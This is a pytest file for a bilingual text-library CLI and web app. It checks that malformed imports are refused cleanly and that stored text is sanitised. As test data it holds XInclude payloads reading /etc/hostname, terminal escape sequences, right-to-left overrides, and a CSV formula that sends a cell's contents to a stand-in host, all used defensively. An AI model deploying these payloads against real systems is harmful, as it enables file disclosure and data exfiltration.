"""Bad input, as a user hands it to the CLI: one line naming the problem, exit status 1, no
traceback, and the library file byte-for-byte as it was. What is accepted is clean: no
control character reaches the store, an export or a terminal unguarded."""

import csv
import hashlib
import io
import json
import os
import re
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from lxml import html as lxml_html

from bitext.errors import InputError
from bitext.services.accounts import add_user
from bitext.services.editing import edit_paragraph
from bitext.services.library import add_document, open_library
from bitext.services.reading import get_document
from bitext.services.reports import submit_report
from bitext.web.app import create_app
from tests.test_web_editorial import log_in

META = {"slug": "doc", "title_original": "宣言", "title_translation": "Declaration",
        "language_original": "zh-Hans", "language_translation": "en", "status": "published"}
ZH = "第一条。人人生而自由。\n第二条。人人平等。\n"
EN = "Article 1. All are born free.\nArticle 2. All are equal.\n"
BIG = Path(__file__).resolve().parents[1] / "bitext" / "demo" / "prc-constitution-2018"


def bitext(db_path: Path, *args, env: dict | None = None) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "bitext", "--db", str(db_path), *map(str, args)],
        capture_output=True, text=True, timeout=300, env=env,
    )


def file_bytes(db_path: Path) -> str:
    digest = hashlib.sha256()
    for path in (db_path, Path(f"{db_path}-wal")):
        digest.update(path.read_bytes() if path.exists() else b"<none>")
    return digest.hexdigest()


def assert_refused(db_path: Path, result: subprocess.CompletedProcess, expected: str,
                   before: str) -> None:
    assert result.returncode == 1, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert result.stderr.count("\n") == 1, result.stderr
    assert result.stderr.startswith("error: ") and expected in result.stderr, result.stderr
    assert file_bytes(db_path) == before


@pytest.fixture
def db_path(tmp_path) -> Path:
    """A library holding one document, ``existing``."""
    path = tmp_path / "library.db"
    database = open_library(f"sqlite:///{path}")
    add_document(database, {**META, "slug": "existing"}, ZH, EN)
    database.dispose()
    return path


def jsonl(*records: dict | str) -> bytes:
    return "".join((r if isinstance(r, str) else json.dumps(r)) + "\n"
                   for r in records).encode()


def document_line(slug: str = "doc", **metadata) -> dict:
    return {"kind": "document", "document": slug, "language_source": "zh-Hans",
            "language_target": "en", "metadata": {**META, "slug": slug, **metadata}}


def bead_line(source=("第一条。",), target=("Article 1.",), **fields) -> dict:
    return {"kind": "bead", "document": "doc", "source": list(source),
            "target": list(target), "score": 0.9, **fields}


NESTED = "[" * 100_000 + "]" * 100_000
TMX_HEAD = ('<?xml version="1.0" encoding="UTF-8"?>\n<tmx version="1.4"><header srclang="zh-Hans"'
            ' segtype="sentence" datatype="PlainText" adminlang="en" o-tmf="x"'
            ' creationtool="t" creationtoolversion="1"/>')
TU = ('<tu><tuv xml:lang="zh-Hans"><seg>{0}</seg></tuv>'
      '<tuv xml:lang="en"><seg>{1}</seg></tuv></tu>')
XLIFF = ('<?xml version="1.0"?>\n<xliff version="1.2" xmlns="urn:oasis:names:tc:xliff:document:'
         '1.2" xmlns:xi="http://www.w3.org/2001/XInclude"><file original="doc" '
         'source-language="zh-Hans" target-language="en" datatype="plaintext"><body>{0}'
         '</body></file></xliff>')
XI = '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/hostname" parse="text"/>'

BAD_IMPORTS = {
    "deeply nested JSONL": ("jsonl", jsonl(document_line(), '{"kind": "bead", "x": '
                                            + NESTED + "}"), "nested deeper than"),
    "lone surrogate in JSONL": ("jsonl", jsonl(document_line(), json.dumps(
        bead_line(target=["Article 1."])).replace("Article 1.", "\\ud800")),
        "lone surrogate"),
    "bead with both sides empty": ("jsonl", jsonl(document_line(), bead_line(),
                                                  bead_line(source=(), target=())),
                                   "neither source nor target"),
    "NaN in JSONL metadata": ("jsonl", jsonl(
        json.dumps(document_line()).replace('"status"', '"weight": NaN, "status"'),
        bead_line()), "NaN"),
    "duplicate keys in a JSONL line": ("jsonl", jsonl(
        document_line(), json.dumps(bead_line()).replace('"score"', '"source": [], "score"')),
        "the key 'source' appears twice"),
    "bead naming another document": ("jsonl", jsonl(document_line(), bead_line(),
                                                    bead_line(document="existing")),
                                     "line 3: the bead names another document"),
    "TMX with an empty body": ("tmx", (TMX_HEAD + "<body></body></tmx>").encode(),
                               "no translation units"),
    "TMX without a body": ("tmx", (TMX_HEAD + "</tmx>").encode(), "no translation units"),
    "XLIFF without targets": ("xliff", XLIFF.format(
        '<trans-unit id="1"><source>第一条。</source></trans-unit>').encode(),
        "has no <target>"),
    "XLIFF whose side is all empty": ("xliff", XLIFF.format(
        '<trans-unit id="1"><source>第一条。</source><target/></trans-unit>').encode(),
        "the translation side is empty"),
    "TMX segment that is only an XInclude": ("tmx", (
        TMX_HEAD + "<body>" + TU.format("第一条。", "Article 1.") + TU.format("第二条。", XI)
        + "</body></tmx>").encode(), "XInclude"),
    "XLIFF segment that is only an XInclude": ("xliff", XLIFF.format(
        f'<trans-unit id="1"><source>第一条。</source><target>{XI}</target></trans-unit>'
    ).encode(), "XInclude"),
}


@pytest.mark.parametrize("case", list(BAD_IMPORTS))
def test_bad_import_files_are_refused_with_one_line(db_path, tmp_path, case):
    fmt, data, expected = BAD_IMPORTS[case]
    path = tmp_path / f"input.{fmt}"
    path.write_bytes(data)
    meta = tmp_path / "meta.json"
    meta.write_text(json.dumps(META), encoding="utf-8")
    before = file_bytes(db_path)
    args = ["import", path, "--format", fmt] + (["--meta", meta] if fmt != "jsonl" else [])
    assert_refused(db_path, bitext(db_path, *args), expected, before)


BAD_METADATA = {
    "deeply nested": '{"slug": "doc", "extra": ' + NESTED + "}",
    "NaN": json.dumps(META)[:-1] + ', "weight": NaN}',
    "Infinity": json.dumps(META)[:-1] + ', "weight": -Infinity}',
    "duplicate key": json.dumps(META)[:-1] + ', "slug": "other"}',
    "lone surrogate": json.dumps(META)[:-1] + ', "note": "\\udc00"}',
    "control character": json.dumps({**META, "title_translation": "Decl\u001b[2Jaration"}),
}
METADATA_ERRORS = {"deeply nested": "nested deeper than", "NaN": "NaN is not a number",
                   "Infinity": "-Infinity is not a number",
                   "duplicate key": "the key 'slug' appears twice",
                   "lone surrogate": "lone surrogate",
                   "control character": "field 'title_translation': a control character"}


@pytest.mark.parametrize("case", list(BAD_METADATA))
def test_bad_metadata_files_are_refused_with_one_line(db_path, tmp_path, case):
    (tmp_path / "zh.txt").write_text(ZH, encoding="utf-8")
    (tmp_path / "en.txt").write_text(EN, encoding="utf-8")
    (tmp_path / "meta.json").write_text(BAD_METADATA[case], encoding="utf-8")
    before = file_bytes(db_path)
    result = bitext(db_path, "add", tmp_path / "zh.txt", tmp_path / "en.txt",
                    "--meta", tmp_path / "meta.json")
    assert_refused(db_path, result, METADATA_ERRORS[case], before)


@pytest.mark.parametrize("encoding", ["rot13", "hex", "base64", "zlib"])
def test_only_text_encodings_are_accepted(db_path, tmp_path, encoding):
    (tmp_path / "zh.txt").write_text(ZH, encoding="utf-8")
    (tmp_path / "en.txt").write_text(EN, encoding="utf-8")
    (tmp_path / "meta.json").write_text(json.dumps(META), encoding="utf-8")
    before = file_bytes(db_path)
    result = bitext(db_path, "add", tmp_path / "zh.txt", tmp_path / "en.txt",
                    "--meta", tmp_path / "meta.json", "--encoding", encoding)
    assert_refused(db_path, result, f"not a text encoding: '{encoding}'", before)


def test_a_file_of_several_documents_is_imported_whole_or_not_at_all(db_path, tmp_path):
    """The second document's slug is taken: the first must not be left behind."""
    path = tmp_path / "two.jsonl"
    path.write_bytes(jsonl(document_line("fresh"), {**bead_line(), "document": "fresh"},
                           document_line("existing"), {**bead_line(), "document": "existing"}))
    before = file_bytes(db_path)
    assert_refused(db_path, bitext(db_path, "import", path, "--format", "jsonl"),
                   "'existing' already exists", before)


def test_a_large_import_into_a_full_library_gives_the_clean_storage_line(tmp_path):
    """A size cap stands in for a full disk; wherever the import runs out of room (document
    rows, segments or the bulk search-index write), the user reads the same line."""
    zh = (BIG / "original.txt").read_text(encoding="utf-8").splitlines()
    en = (BIG / "translation.txt").read_text(encoding="utf-8").splitlines()
    big = tmp_path / "big.jsonl"
    big.write_bytes(jsonl(document_line(), *(
        bead_line(source=[z], target=[e]) for z, e in zip(zh, en, strict=False))))
    roomy = tmp_path / "roomy.db"
    open_library(f"sqlite:///{roomy}").dispose()
    empty_pages = _pages(roomy)
    assert bitext(roomy, "import", big, "--format", "jsonl").returncode == 0
    needed = _pages(roomy) - empty_pages

    for share in (0.5, 0.85, 0.9, 0.95):
        db_path = tmp_path / f"full-{share}.db"
        open_library(f"sqlite:///{db_path}").dispose()
        before = file_bytes(db_path)
        cap = empty_pages + int(needed * share)
        env = {**os.environ, "BITEXT_SQLITE_MAX_PAGE_COUNT": str(cap)}
        result = bitext(db_path, "import", big, "--format", "jsonl", env=env)
        assert_refused(db_path, result, "storage is full: the change was not saved", before)


def _pages(db_path: Path) -> int:
    with sqlite3.connect(db_path) as connection:
        return connection.execute("PRAGMA page_count").fetchone()[0]


# --- control characters ------------------------------------------------------------------

DIRTY_ZH = "第一条。\x00人人生而自由。\n第二条。人人平等。\x1b[31m\n"
DIRTY_EN = "Article 1. All are\x07 born free.\x0cArticle 2. All are equal.\x9b\n"


def test_import_drops_control_characters_and_reports_how_many(tmp_path):
    db_path = tmp_path / "library.db"
    (tmp_path / "zh.txt").write_text(DIRTY_ZH, encoding="utf-8")
    (tmp_path / "en.txt").write_text(DIRTY_EN, encoding="utf-8")
    (tmp_path / "meta.json").write_text(json.dumps(META), encoding="utf-8")
    added = bitext(db_path, "add", tmp_path / "zh.txt", tmp_path / "en.txt",
                   "--meta", tmp_path / "meta.json")
    assert added.returncode == 0, added.stderr
    assert "removed 4 control characters" in added.stdout  # NUL, ESC, BEL, CSI; FF: a newline
    text = _stored_text(db_path)
    assert "人人平等。[31m" in text and "All are born free." in text
    assert not any(c in text for c in "\x00\x1b\x07\x0c\x9b")
    assert "Article 2. All are equal." in text  # the form feed ended a paragraph

    exported = tmp_path / "doc.jsonl"
    assert bitext(db_path, "export", "doc", "-f", "jsonl", "-o", exported).returncode == 0
    dirty = exported.read_text(encoding="utf-8").replace("人人平等。", "人人平等。\\u0000")
    exported.write_text(dirty.replace('"doc"', '"copy"'), encoding="utf-8")
    imported = bitext(db_path, "import", exported, "-f", "jsonl")
    assert imported.returncode == 0, imported.stderr
    assert "removed 1 control character" in imported.stdout


def test_corrections_drop_control_characters(tmp_path):
    database = open_library(f"sqlite:///{tmp_path / 'library.db'}")
    add_document(database, META, ZH, EN)
    editor = add_user(database, "ed", "a long passphrase", "editor")
    paragraph = get_document(database, "doc").rows[0].translation[0]
    edit_paragraph(database, editor, "doc", "translation", paragraph.id, 1,
                   "Article 1. All are\x1b]0;owned\x07 born free.", "a correction")
    text = get_document(database, "doc").rows[0].translation[0].sentences[1].text
    database.dispose()
    assert text == "All are]0;owned born free."


@pytest.fixture
def library_from_before(tmp_path) -> Path:
    """A library written before imports dropped control characters: NUL, ESC and a
    right-to-left override in its text and title."""
    db_path = tmp_path / "old.db"
    database = open_library(f"sqlite:///{db_path}")
    add_document(database, META, ZH, EN)
    database.dispose()
    with sqlite3.connect(db_path) as connection:
        connection.execute("UPDATE segments SET text = replace(text, '人人平等', "
                           "'人人' || char(0) || '平等' || char(27) || '[2J')")
        connection.execute("UPDATE segments SET text = replace(text, 'equal', "
                           "'equal' || char(27) || ']0;pwned' || char(7))")
        connection.execute("UPDATE documents SET title_translation = "
                           "'Decl' || char(27) || '[5maration' || char(8238)")
    return db_path


def test_docx_export_of_text_with_control_characters(library_from_before, tmp_path):
    out = tmp_path / "doc.docx"
    result = bitext(library_from_before, "export", "doc", "-f", "docx", "-o", out)
    assert result.returncode == 0 and "Traceback" not in result.stderr, result.stderr
    assert out.read_bytes().startswith(b"PK")
    database = open_library(f"sqlite:///{library_from_before}")
    with TestClient(create_app(database)) as client:
        response = client.get("/api/documents/doc/export?format=docx")
    database.dispose()
    assert response.status_code == 200, response.text[:300]


def test_cli_shows_control_characters_from_stored_text_as_escapes(library_from_before):
    for args in (["cite", "doc"], ["cite", "doc", "--style", "bib"],
                 ["concordance", "平等"], ["concordance", "equal"], ["search", "equal"]):
        result = bitext(library_from_before, *args)
        assert result.returncode == 0, result.stderr
        assert not any(c in result.stdout for c in "\x00\x1b\x07\u202e"), args
    assert "\\u001b]0;pwned" in bitext(library_from_before, "search", "equal").stdout


# --- right-to-left overrides in pages ---------------------------------------------------------

RLO = "\u202e"


def test_user_text_is_isolated_so_it_cannot_reorder_the_page(tmp_path):
    database = open_library(f"sqlite:///{tmp_path / 'library.db'}")
    add_document(database, {
        **META, "title_original": f"宣言{RLO}", "title_translation": f"Decl{RLO}aration",
        "authors": [{"name": f"联合国{RLO}", "romanized": f"UN{RLO}"}],
        "source": f"来源{RLO}", "source_translation": f"Source{RLO}", "date": "2020-01-02",
        "translator": f"Trans{RLO}lator", "publisher": f"Pub{RLO}", "tags": [f"tag{RLO}"],
        "summary": f"Sum{RLO}mary", "licence": f"Lic{RLO}ence",
    }, ZH.replace("人人平等", f"人人{RLO}平等"), EN.replace("equal", f"eq{RLO}ual"))
    add_user(database, "ed", "a long passphrase", "editor")
    paragraph = get_document(database, "doc").rows[1].translation[0].id
    submit_report(database, "doc", paragraph, "translation", f"eq{RLO}ual",
                  f"Sugg{RLO}estion", None, "127.0.0.1")
    pages = ["/", "/documents/doc", "/documents/doc?view=original",
             "/documents/doc?view=translation", "/documents/doc/cite",
             "/documents/doc/cite?paragraph=2", "/search?q=equal", "/concordance?q=equal",
             "/concordance?q=平等", "/editor/reports", "/works/doc",
             "/works/doc/compare?translations=doc", "/works/doc/in-force?date=2021-01-01"]
    with TestClient(create_app(database), follow_redirects=False) as client:
        log_in(client, "ed", "a long passphrase")
        responses = {page: client.get(page) for page in pages}
        assert {page: r.status_code for page, r in responses.items()} == dict.fromkeys(pages, 200)
        unisolated = {page: _unisolated(r.text) for page, r in responses.items()}
    database.dispose()
    assert unisolated == {page: [] for page in pages}


def _unisolated(page: str) -> list[str]:
    """Text in the body holding the override where neither its element isolates it (a
    ``<bdi>`` or an element with a ``dir`` attribute) nor the text does (FSI … PDI, as in
    a citation)."""
    body = lxml_html.fromstring(page).find("body")
    found = []
    for element in body.iter():
        if not isinstance(element.tag, str):
            continue
        for text, holder in ((element.text, element), (element.tail, element.getparent())):
            text = re.sub("\u2068[^\u2068\u2069]*\u2069", "", text or "")
            if RLO in text and not (holder.tag == "bdi" or "dir" in holder.attrib):
                found.append(f"<{holder.tag} class={holder.get('class')}>{text.strip()[:30]}")
    return found


# --- spreadsheet formulas ----------------------------------------------------------------------


def test_every_csv_and_tsv_cell_is_guarded_against_formulas(tmp_path):
    db_path = tmp_path / "library.db"
    database = open_library(f"sqlite:///{db_path}")
    add_document(database, META, ZH, '=HYPERLINK("http://x.example/?"&A1,"Click")\n'
                 "+1. @SUM(A1:A9) -2 is less.\n")
    database.dispose()
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        result = bitext(db_path, "export", "doc", "-f", fmt)
        assert result.returncode == 0, result.stderr
        rows = list(csv.reader(io.StringIO(result.stdout.lstrip("\ufeff")),
                               delimiter=delimiter))
        cells = [cell for row in rows[1:] for cell in row]
        assert "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")" in cells
        assert all(not cell.startswith(("=", "+", "@", "\t", "\r"))
                   and not cell.startswith("-") or _is_number(cell) for cell in cells)
    concordance = bitext(db_path, "concordance", "HYPERLINK", "--csv").stdout
    assert ",'=HYPERLINK(" in concordance or ",'=" in concordance


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _stored_text(db_path: Path) -> str:
    with sqlite3.connect(db_path) as connection:
        return "\n".join(t for (t,) in connection.execute("SELECT text FROM segments"))


def test_strict_json_errors_are_input_errors():
    """The same loader serves the Python API: each refusal is an ``InputError``."""
    from bitext.formats.jsonl import read_jsonl

    with pytest.raises(InputError, match="JSONL line 2: not accepted JSON"):
        read_jsonl(jsonl(document_line(), '{"kind": "bead", "x": ' + NESTED + "}"))
